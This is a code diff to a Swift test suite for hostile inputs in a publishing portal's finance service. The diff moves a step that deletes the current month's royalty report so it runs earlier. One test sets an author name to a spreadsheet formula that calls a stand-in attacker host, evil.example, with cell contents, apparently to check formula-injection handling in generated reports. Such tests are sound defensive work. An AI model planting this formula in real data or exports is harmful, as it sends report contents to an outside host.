@@ -519,6 +519,14 @@ struct HostileInputTests {
             let finance = try ServiceProcess("finance", port: Self.financePort, environment: [:], in: s.env)
             do {
                 try await finance.waitUntilReady()
+                // This month's report may already be submitted by an earlier test, and a royalty
+                // then goes to next month's: the report is made again, from the ledger, which
+                // keeps every entry, before the item is published.
+                let month = String(PortalTestCalendar.localDateTime(Date()).prefix(7))
+                try await s.pool.withConnection { connection in
+                    try connection.query("DELETE FROM finance.report_steps WHERE month = $1", [month])
+                    try connection.query("DELETE FROM finance.reports WHERE month = $1", [month])
+                }
                 let tag = UUID().uuidString.prefix(6).lowercased()
                 let author = #"=HYPERLINK("http://evil.example/?d="&A1,"Xem \#(tag)")"#
                 // The unit names the author, the editor keeps the name in the classification the royalty follows.
@@ -530,13 +538,6 @@ struct HostileInputTests {
                     try await s.pool.withConnection {
                         try $0.query("SELECT count(*)::int AS n FROM finance.ledger WHERE title LIKE '%' || $1 || '%'", [String(tag)]).one().decode("n", as: Int.self)
                     } > 0
-                }
-                // This month's report may already be submitted (frozen, without our entry) by an
-                // earlier test: it is made again from the ledger, which keeps every entry.
-                let month = String(PortalTestCalendar.localDateTime(Date()).prefix(7))
-                try await s.pool.withConnection { connection in
-                    try connection.query("DELETE FROM finance.report_steps WHERE month = $1", [month])
-                    try connection.query("DELETE FROM finance.reports WHERE month = $1", [month])
                 }
                 #expect(httpRequest("POST", finance.url("/api/v1/royalties/\(month)/generate"), headers: ["Authorization": "Bearer \(token)"]).status == 201)
                 for view in ["authors", "entries"] {
